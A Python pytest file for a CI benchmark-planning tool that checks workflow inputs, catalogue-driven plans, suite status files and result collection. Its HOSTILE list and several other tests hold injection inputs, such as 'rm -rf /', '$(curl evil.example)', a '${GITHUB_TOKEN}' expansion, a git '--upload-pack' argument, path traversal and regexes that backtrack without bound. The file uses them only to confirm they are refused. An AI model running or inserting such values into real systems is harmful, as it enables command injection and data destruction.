"""jaxci inputs: hostile workflow inputs are refused before any label or command is built; the plan takes its
families, labels, spot use and timeouts from the catalogue; suite status and collection report what happened;
scripts/run-suites.sh runs the suites of jaxci.workflows.suites and records their status."""

import json
import os
import re
import subprocess
import sys
import tomllib

import pytest

from jaxci.catalogue import catalogue_defaults, load_catalogue
from jaxci.policy.jobcost import timeout_minutes
from jaxci.workflows import status as run_status
from jaxci.workflows.collect import collect, family_outcome
from jaxci.workflows.inputs import InputError, validate_commits, validate_families, validate_filter
from jaxci.workflows.plan import bench_requirements, check_suite_filters, plan, suite_regex, upgrade_plan
from jaxci.workflows.status import RunStatus, SuiteOutcome, SuiteState
from jaxci.workflows.suites import suites
from tests.workflowutil import REPO, key_values

CATALOGUE = load_catalogue()
DEFAULTS = catalogue_defaults()
SHA = "0123456789abcdef0123456789abcdef01234567"

# Every hostile value must be refused, with the input named in the message.
HOSTILE = [(name, value) for name, values in {
    "families": ["g4dn.2xlarge;rm -rf /", "$(curl evil.example)", "`id`", "g4dn.2xlarge\nc7i.2xlarge", "p5.48xlarge",
                 "g4dn.2xlarge/spot=true", "g4dn.2xlarge/image=attacker-ami"],
    "bench": ["$(id)", "${GITHUB_TOKEN}", "dense; curl x", "dense`id`", "dense\nloops", "dense loops", "--help", "-x",
              "dense&&id", "dense>out", "dense'", 'dense"', "dense((", "a" * 201],
    "commits": ["$(id)", "main;id", "`id`", "main\nid", "--upload-pack=touch /tmp/x", "-q", "main..evil", "HEAD@{1}",
                "refs/heads/x.lock", " ".join(["HEAD"] * 11)],
    "scale": ["full; id", "huge"],
    "run_id": ["1; id", "$(id)", "12\n3", ""],
}.items() for value in values]


def _plan(families="", scale="full", bench="", commits="", run_id="42"):
    return plan(families, scale, bench, commits, run_id, catalogue=CATALOGUE, defaults=DEFAULTS,
                suite_names=["dense", "loops"])


def _inputs_cli(*args):
    return subprocess.run([sys.executable, "-m", "jaxci", "inputs", *map(str, args)], capture_output=True, text=True)


@pytest.mark.parametrize("name,value", HOSTILE, ids=[f"{n}:{v[:20]!r}" for n, v in HOSTILE])
def test_hostile_input_is_refused(name, value):
    with pytest.raises(InputError, match="run id" if name == "run_id" else f"'{name}'"):
        _plan(**{name: value})


def test_cli_refuses_and_writes_no_output(tmp_path):
    out = tmp_path / "github_output"
    proc = _inputs_cli("plan", "--families=$(id)", "--run-id=1", f"--github-output={out}")
    assert proc.returncode == 2
    assert "refused" in proc.stderr and "'families'" in proc.stderr
    assert not out.exists()


def test_cli_writes_single_line_outputs(tmp_path):
    out = tmp_path / "github_output"
    proc = _inputs_cli("plan", "--families=g4dn.2xlarge,ubuntu-latest", "--bench=^dispatch.TinyOp",
                       "--commits=HEAD,main", "--scale=ci", "--run-id=77", f"--github-output={out}")
    assert proc.returncode == 0, proc.stderr
    outputs = key_values(out.read_text())
    assert set(outputs) == {"matrix", "scale", "publish", "commits", "suite_filters"}
    matrix = json.loads(outputs["matrix"])
    assert [e["family"] for e in matrix["include"]] == ["g4dn.2xlarge", "ubuntu-latest"]
    assert outputs["commits"] == "HEAD main" and outputs["publish"] == "false"


def test_plain_inputs_pass():
    assert validate_families("g4dn.2xlarge, c7i.2xlarge", CATALOGUE) == ["g4dn.2xlarge", "c7i.2xlarge"]
    assert validate_filter("^loops.(Scan|ForiAccumulate)") == "^loops.(Scan|ForiAccumulate)"
    assert validate_filter("") is None
    assert validate_commits("") == ["HEAD"]
    assert validate_commits("3363320, v0.2.0 main~3 release/2026-11") == ["3363320", "v0.2.0", "main~3",
                                                                           "release/2026-11"]


def test_default_families_are_the_bench_families():
    p = _plan()
    assert p.families == [n for n, m in CATALOGUE.items() if m.bench]
    assert p.families  # the catalogue must have at least one bench family


def test_labels_timeouts_and_spot_come_from_the_catalogue():
    for scale in ("full", "ci"):
        p = _plan(scale=scale, commits="HEAD main")
        for entry in p.matrix["include"]:
            m = CATALOGUE[entry["family"]]
            assert entry["timeout_minutes"] == timeout_minutes(m, DEFAULTS, runs=2)
            assert entry["backend"] == m.backend and entry["gpu"] == m.has_gpu
            if scale == "full":  # published: on-demand always
                assert entry["spot"] is False
            else:  # exploratory: spot only where the catalogue allows it
                assert entry["spot"] is (m.spot == "exploratory")
            if m.runner == "github":
                assert entry["runs_on"] == m.image
            else:
                assert entry["runs_on"] == (f"runs-on=42/family={m.name}/image={m.image}/"
                                            f"spot={'true' if entry['spot'] else 'false'}")


def test_publish_only_at_full_scale():
    assert _plan(scale="full").publish is True
    assert _plan(scale="ci").publish is False
    assert _plan(scale="").scale == "full"  # a scheduled run has no inputs


def test_upgrade_plan_is_on_demand_and_timed_for_two_runs():
    out = upgrade_plan(SHA, SHA[::-1], "9", catalogue=CATALOGUE, defaults=DEFAULTS)
    matrix = json.loads(out["matrix"])
    gpus = [CATALOGUE[e["family"]].has_gpu for e in matrix["include"]]
    assert sorted(gpus) == [False, True]
    for e in matrix["include"]:
        assert e["spot"] is False and e["runs_on"].endswith(("spot=false", "ubuntu-latest"))
        assert e["timeout_minutes"] == timeout_minutes(CATALOGUE[e["family"]], DEFAULTS, runs=2)
    for bad in ("main", SHA[:12], SHA + "\n", "$(id)"):
        with pytest.raises(InputError):
            upgrade_plan(bad, SHA, "9", catalogue=CATALOGUE, defaults=DEFAULTS)


# asv selects a benchmark when re.search(regex, "module.Class.method(params)") matches.
NAMES = ["dispatch.TinyOp.time_warm('float32', 'cpu')", "dispatch.Transfer.time_transfer('h2d', 1, 'cpu')",
         "loops.Scan.time_warm(1000, 1, 'float32', 'cpu')", "dense.Dense.time_warm('matmul', 64, 'float32', 'cpu')"]


@pytest.mark.parametrize("bench,suite,expected", [
    (None, "dispatch", NAMES[:2]),
    ("^dispatch.TinyOp", "dispatch", NAMES[:1]),
    ("^dispatch.TinyOp", "loops", []),
    ("TinyOp|Scan", "loops", NAMES[2:3]),
    ("TinyOp|Scan", "dispatch", NAMES[:1]),
    ("float32', 'cpu'[)]$", "dense", NAMES[3:]),
])
def test_suite_regex_is_suite_and_filter(bench, suite, expected):
    regex = suite_regex(suite, bench)
    assert [n for n in NAMES if re.search(regex, n)] == expected


def test_suites_are_the_benchmark_modules():
    names = suites()
    assert {"dense", "dispatch", "loops"} <= set(names) and "common" not in names


def test_status_distinguishes_failure_from_no_selection(tmp_path):
    path = tmp_path / "s.json"
    run_status.init(path, "c7i.2xlarge", spot=False)
    run_status.end(path, "dense", 1, log="· No benchmarks selected")
    run_status.end(path, "loops", 2)
    run_status.end(path, "dispatch", 1, log="Traceback ...")
    suites_ = run_status.finish(path).suites
    assert suites_["dense"].state is SuiteState.NOT_SELECTED
    assert suites_["loops"].state is SuiteState.PARTIAL
    assert suites_["dispatch"] == SuiteOutcome(SuiteState.FAILED, 1) and suites_["dispatch"].failed
    on_disk = json.loads(path.read_text())["suites"]
    assert on_disk["dense"].startswith("not selected") and on_disk["loops"].startswith("completed")
    assert on_disk["dispatch"] == "failed: asv exit 1"
    assert family_outcome({"spot": False}, run_status.finish(path))[0] == "failed"


def test_lost_runner_is_a_spot_interruption_only_on_spot():
    assert family_outcome({"spot": True}, None)[0] == "spot interruption"
    assert family_outcome({"spot": False}, None)[0] == "runner lost"


def test_collect_merges_what_came_back_and_reports_the_rest(tmp_path):
    incoming, results = tmp_path / "incoming", tmp_path / "results"
    ok = incoming / "results-c7i.2xlarge"
    (ok / "results" / "c7i.2xlarge").mkdir(parents=True)
    (ok / "results" / "c7i.2xlarge" / "abc-virtualenv.json").write_text("{}")
    (ok / "results" / "c7i.2xlarge" / "machine.json").write_text("{}")
    (ok / "results" / "benchmarks.json").write_text('{"version": 2}')
    run_status.init(ok / "run-status" / "c7i.2xlarge.json", "c7i.2xlarge", spot=False)
    run_status.end(ok / "run-status" / "c7i.2xlarge.json", "dense", 0)
    run_status.finish(ok / "run-status" / "c7i.2xlarge.json")
    results.mkdir()
    matrix = {"include": [{"family": "c7i.2xlarge", "spot": False}, {"family": "g4dn.2xlarge", "spot": True}]}
    rows = collect(matrix, incoming, results, CATALOGUE)
    assert [(r["family"], r["outcome"], r["results_merged"]) for r in rows] == [
        ("c7i.2xlarge", "complete", True), ("g4dn.2xlarge", "spot interruption", False)]
    assert (results / "c7i.2xlarge" / "abc-virtualenv.json").is_file()
    assert (results / "benchmarks.json").is_file() and not (results / "g4dn.2xlarge").exists()


def test_collect_refuses_a_family_outside_the_catalogue(tmp_path):
    with pytest.raises(InputError):
        collect({"include": [{"family": "../../etc"}]}, tmp_path, tmp_path / "results", CATALOGUE)


def test_status_cli_fails_the_job_only_on_a_failed_suite(tmp_path):
    status, log = tmp_path / "s.json", tmp_path / "dense.log"
    assert _inputs_cli("status", status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
    log.write_text("No benchmarks selected")
    assert _inputs_cli("status", status, "end", "--suite=dense", "--exit=1", f"--log={log}").returncode == 0
    assert _inputs_cli("status", status, "end", "--suite=loops", "--exit=2").returncode == 0
    assert _inputs_cli("status", status, "end", "--suite=dispatch", "--exit=1").returncode == 1
    assert _inputs_cli("status", status, "start", "--suite=$(id)").returncode == 2
    assert _inputs_cli("status", tmp_path / "t.json", "init", "--family=nope", "--spot=true").returncode == 2


# ---- filters that backtrack without bound; status files a cancel can break ------------------

@pytest.mark.parametrize("bench", ["(.|.)*z", "(a|ab)+c", "(a*)*b", ".*.*.*z", ".?" * 15 + "z", "([a-z]+)+x"])
def test_filters_that_backtrack_without_bound_are_refused(bench):
    with pytest.raises(InputError, match="'bench': .* can backtrack through"):
        validate_filter(bench)


@pytest.mark.parametrize("bench", ["^dispatch", "TinyOp|Matmul", "time_.*float64.*gpu", "(float32|float64)?x",
                                   "[ab]*c", "dense[.]Matmul[.]time_warm"])
def test_ordinary_filters_pass(bench):
    assert validate_filter(bench) == bench


def test_accepted_filters_match_a_long_name_quickly():
    """The bound is what keeps asv's matching short: the worst accepted shapes, wrapped as the plan wraps them,
    against a 200-character name that never matches, in a child process with a generous limit (a hang guard,
    not a timing assertion: the refused '(.|.)*z' takes hours there)."""
    worst = [".*.*z", ".?" * 14 + "z", "[a-z]+_x+", "(a|b)?(c|d)?(e|f)?.*z"]
    for bench in worst:
        assert validate_filter(bench) == bench
    code = ("import re, sys; from jaxci.workflows.plan import suite_regex\n"
            "for b in sys.argv[1:]: re.search(suite_regex('dense', b), 'dense.' + 'a' * 194)")
    subprocess.run([sys.executable, "-c", code, *worst], check=True, timeout=60)


def test_status_end_needs_a_suite_and_an_exit(tmp_path):
    status = tmp_path / "s.json"
    assert _inputs_cli("status", status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
    for args, message in [((), "--suite is required"), (("--suite=dense",), "--exit is required"),
                          (("--suite=dense\nx", "--exit=0"), "is not a suite name")]:
        proc = _inputs_cli("status", status, "end", *args)
        assert proc.returncode == 2 and message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert json.loads(status.read_text())["suites"] == {}  # nothing recorded as "null"
    proc = _inputs_cli("status", status, "end", "--suite=dense", "--exit=1234567")   # issue 83: 7 digits
    assert proc.returncode == 2 and "expected a process exit status" in proc.stderr
    assert json.loads(status.read_text())["suites"] == {}


def test_status_end_reads_the_tail_of_a_huge_log(tmp_path):
    """Issue 83: a 3 GiB asv log was read whole (MemoryError); `status end` reads its last MiB, where asv says
    'No benchmarks selected'."""
    status, log = tmp_path / "s.json", tmp_path / "asv.log"
    assert _inputs_cli("status", status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
    with open(log, "wb") as f:
        f.truncate(3 * 1024 ** 3)   # sparse: 3 GiB of zeros that take no disk
        f.seek(0, 2)
        f.write(b"\nNo benchmarks selected\n")
    proc = _inputs_cli("status", status, "end", "--suite=dense", "--exit=1", f"--log={log}")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(status.read_text())["suites"]["dense"] == "not selected by the filter"


@pytest.mark.parametrize("content", ["", "{", "[]", '{"family": "x"}', '{"family": "x", "suites": {"a": null}}'] + [
    json.dumps({"family": "c7i.2xlarge", "suites": suites_, "running": None})
    for suites_ in ({"dense": "whatever"}, {"dense": "failed: asv exit"}, {"de|nse": "ok"},
                    {"dense": "failed: asv exit 1; | injected |"})] + [
    json.dumps({"family": "c7i<!-- hidden\n\n# Forged heading", "spot": False, "suites": {}, "running": None,
                "finished": False})])
def test_a_broken_status_or_one_no_writer_produces_is_refused(tmp_path, content):
    status = tmp_path / "s.json"
    status.write_text(content)
    proc = _inputs_cli("status", status, "finish")
    assert proc.returncode == 2 and f"status file {status}" in proc.stderr and "Traceback" not in proc.stderr
    with pytest.raises(InputError):
        run_status.load(status)


def test_status_is_written_atomically(tmp_path, monkeypatch):
    """A write cut off half way (here: the JSON encoder raising) leaves the previous status intact."""
    status = tmp_path / "s.json"
    run_status.init(status, "c7i.2xlarge", spot=False)
    before = status.read_text()

    def broken(*a, **k):
        raise KeyboardInterrupt  # what a cancelled job delivers

    monkeypatch.setattr(run_status.json, "dumps", broken)
    with pytest.raises(KeyboardInterrupt):
        run_status.start(status, "dense")
    monkeypatch.undo()
    assert status.read_text() == before and [p.name for p in tmp_path.iterdir()] == ["s.json"]


def test_collect_reports_a_broken_status_and_still_collects_the_rest(tmp_path):
    incoming, results = tmp_path / "incoming", tmp_path / "results"
    bad = incoming / "results-c7i.2xlarge"
    (bad / "run-status").mkdir(parents=True)
    (bad / "run-status" / "c7i.2xlarge.json").write_text('{"family": "c7i.2xl')  # cut off by a cancel
    (bad / "results" / "c7i.2xlarge").mkdir(parents=True)
    (bad / "results" / "c7i.2xlarge" / "abc-virtualenv.json").write_text("{}")
    good = incoming / "results-g4dn.2xlarge" / "run-status" / "g4dn.2xlarge.json"
    run_status.init(good, "g4dn.2xlarge", spot=False)
    run_status.end(good, "dense", 0)
    results.mkdir()
    matrix = {"include": [{"family": "c7i.2xlarge", "spot": False}, {"family": "g4dn.2xlarge", "spot": False}]}
    rows = collect(matrix, incoming, results, CATALOGUE)
    assert [(r["family"], r["outcome"], r["results_merged"]) for r in rows] == [
        ("c7i.2xlarge", "status unreadable", True), ("g4dn.2xlarge", "complete", False)]
    assert "c7i.2xlarge.json: unreadable" in rows[0]["detail"]


@pytest.mark.parametrize("matrix", ["[]", "{}", '{"include": 3}', '{"include": [1]}', "null", '"x"'])
def test_collect_refuses_a_matrix_of_the_wrong_shape(tmp_path, matrix):
    proc = _inputs_cli("collect", "--matrix", matrix, "--incoming", tmp_path)
    assert proc.returncode == 2 and "--matrix: expected the plan's matrix" in proc.stderr, proc.stderr


# ---- the status file: typed in memory, the same text on disk; one reader ---------------------------------

def test_status_round_trips_through_its_file(tmp_path):
    path = tmp_path / "s.json"
    run_status.init(path, "g4dn.2xlarge", spot=True)
    for suite, code, log in [("dense", 0, ""), ("loops", 2, ""), ("host", 1, "No benchmarks selected"),
                             ("nuts", 137, "")]:
        run_status.start(path, suite)
        run_status.end(path, suite, code, log)
    run_status.start(path, "kalman")  # the job is cancelled here (timeout, or the user)
    status = run_status.finish(path)
    assert run_status.load(path) == status and family_outcome({"spot": True}, status)[0] == "interrupted"
    assert json.loads(path.read_text()) == {
        "family": "g4dn.2xlarge", "spot": True, "running": None, "finished": True, "interrupted": "kalman",
        "suites": {"dense": "ok", "loops": "completed; some benchmarks failed or timed out (results saved)",
                   "host": "not selected by the filter", "nuts": "failed: asv exit 137",
                   "kalman": "interrupted (job cancelled or timed out during this suite)"}}
    assert [s for s, o in status.suites.items() if o.failed] == ["nuts"]


def test_outcomes_of_asv_exits():
    assert SuiteOutcome.of_asv(0).state is SuiteState.OK
    assert SuiteOutcome.of_asv(2).state is SuiteState.PARTIAL
    assert SuiteOutcome.of_asv(1, "· No benchmarks selected").state is SuiteState.NOT_SELECTED
    assert SuiteOutcome.of_asv(1) == SuiteOutcome(SuiteState.FAILED, 1)
    for outcome in (SuiteOutcome(s) for s in SuiteState if s is not SuiteState.FAILED):
        assert SuiteOutcome.parse(str(outcome)) == outcome and not outcome.failed
    assert RunStatus.from_json({"family": "x", "suites": {}}) == RunStatus("x")  # older fields default


# ---- one list of suites, and the runner's requirements from the bench extra --------------------------------

def test_suites_are_the_modules_that_define_benchmarks(tmp_path):
    for name in ("__init__", "common", "dense", "loops"):
        (tmp_path / f"{name}.py").write_text("")
    (tmp_path / "kernels").mkdir()
    (tmp_path / "kernels" / "nested.py").write_text("")
    assert suites(tmp_path) == ["dense", "loops"]
    (tmp_path / "Bad-Name.py").write_text("")
    with pytest.raises(InputError, match="not plain identifiers"):
        suites(tmp_path)


def test_suites_command_prints_the_list():
    proc = _inputs_cli("suites")
    assert proc.returncode == 0 and proc.stdout.split() == suites()


def test_runner_requirements_come_from_the_bench_extra():
    extra = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]["bench"]
    (asv,) = [r for r in extra if r.startswith("asv")]
    assert bench_requirements(["asv"]) == [asv] and asv.startswith("asv==")
    proc = _inputs_cli("requirements", "asv", "virtualenv", "nvidia_ml_py")
    assert proc.returncode == 0 and proc.stdout.splitlines()[0] == asv and len(proc.stdout.splitlines()) == 3
    proc = _inputs_cli("requirements", "pytest")
    assert proc.returncode == 2 and "'pytest' not in the bench extra" in proc.stderr


# ---- scripts/run-suites.sh, locally and as the bench workflow runs it (a stand-in asv) ----------------------

FAKE_ASV = """#!{python}
import json, os, re, sys
args = sys.argv[1:]
bench = args[args.index("--bench") + 1]
suite = re.search(r"([a-z_]+)(?:\\[[.]\\]|\\\\[.])$", bench).group(1)
with open(os.environ["FAKE_ASV_CALLS"], "a") as fh:
    fh.write(json.dumps(args) + "\\n")
print("fake asv ran", suite, "No benchmarks selected" if suite == "host" else "")
sys.exit(json.loads(os.environ.get("FAKE_ASV_EXIT", "{{}}")).get(suite, 0))
"""


def _run_suites(tmp_path, exits: dict, **env):
    asv = tmp_path / "asv"
    asv.write_text(FAKE_ASV.format(python=sys.executable))
    asv.chmod(0o755)
    calls = tmp_path / "calls.jsonl"
    env = {**os.environ, "ASV": str(asv), "PYTHON": sys.executable, "FAKE_ASV_CALLS": str(calls),
           "FAKE_ASV_EXIT": json.dumps(exits), **env}
    proc = subprocess.run(["bash", str(REPO / "scripts" / "run-suites.sh"), "fam", "HEAD^!", "--show-stderr"],
                          env=env, capture_output=True, text=True, timeout=300)
    return proc, [json.loads(line) for line in calls.read_text().splitlines()] if calls.exists() else []


def test_run_suites_runs_every_suite_and_fails_on_any_asv_failure(tmp_path):
    proc, calls = _run_suites(tmp_path, {"loops": 2})
    assert proc.returncode == 2 and "suites with failures: loops" in proc.stderr
    assert [c[c.index("--bench") + 1] for c in calls] == [f"^{s}\\." for s in suites()]
    assert calls[0] == ["run", "--machine", "fam", "--bench", f"^{suites()[0]}\\.", "HEAD^!", "--show-stderr"]
    (tmp_path / "two").mkdir()
    proc, calls = _run_suites(tmp_path / "two", {}, JAXCI_SUITES="dense loops")
    assert proc.returncode == 0 and len(calls) == 2 and "all suites finished" in proc.stdout


def test_run_suites_records_the_status_as_the_bench_workflow_needs(tmp_path):
    """bench.yml: the plan's suite_filters, a status file; only asv's own failure fails the job."""
    status = tmp_path / "run-status" / "c7i.2xlarge.json"
    run_status.init(status, "c7i.2xlarge", spot=False)
    filters = _plan(bench="TinyOp|Scan").outputs()["suite_filters"]  # suites dense and loops
    proc, calls = _run_suites(tmp_path, {"loops": 2, "host": 1}, JAXCI_STATUS=str(status),
                              JAXCI_SUITE_FILTERS=filters + " host=^host[.]")
    assert proc.returncode == 0, proc.stderr
    regexes = [f.split("=", 1)[1] for f in filters.split()] + ["^host[.]"]
    assert [c[c.index("--bench") + 1] for c in calls] == regexes
    got = run_status.load(status).suites
    assert {s: o.state for s, o in got.items()} == {"dense": SuiteState.OK, "loops": SuiteState.PARTIAL,
                                                     "host": SuiteState.NOT_SELECTED}
    assert "fake asv ran dense" in (tmp_path / "run-status" / "c7i.2xlarge.dense.log").read_text()
    proc, _ = _run_suites(tmp_path, {"dense": 1}, JAXCI_STATUS=str(status), JAXCI_SUITE_FILTERS=filters)
    assert proc.returncode == 2 and "suite dense failed" in proc.stderr
    assert run_status.load(status).suites["dense"] == SuiteOutcome(SuiteState.FAILED, 1)
    assert run_status.load(status).suites["loops"].state is SuiteState.OK  # the next suite still ran


def test_every_documented_suite_filter_passes_run_suites_check():
    """A capture command in the docs is copied as written: run-suites.sh must accept its JAXCI_SUITE_FILTERS
    (bad-input.md quotes a bad one on purpose)."""
    docs = [REPO / "README.md", REPO / "results" / "README.md",
            *(p for p in (REPO / "docs").rglob("*.md") if p.name != "bad-input.md")]
    found = [(p, m[1]) for p in docs for m in re.finditer(r"JAXCI_SUITE_FILTERS='([^']+)'", p.read_text())]
    assert found, "no documented JAXCI_SUITE_FILTERS command found"
    for path, text in found:
        assert check_suite_filters(text), path
